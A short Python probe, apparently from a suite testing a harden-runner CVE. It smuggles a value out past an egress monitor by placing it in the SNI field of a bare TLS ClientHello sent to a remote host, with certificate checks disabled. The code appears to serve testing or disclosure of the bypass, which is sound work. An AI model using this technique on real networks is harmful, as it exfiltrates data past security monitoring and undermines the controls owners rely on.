"""TLS to port 443, as DNS over HTTPS begins (harden-runner CVE-2026-32947); the word is the name."""
import ssl

from way import *


def way():
    context = ssl._create_unverified_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=WORD.decode())
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    stream = socket.create_connection((HOST, PORT))
    stream.settimeout(PATIENCE)
    stream.sendall(outgoing.read())
    return heard(stream)


told(way)
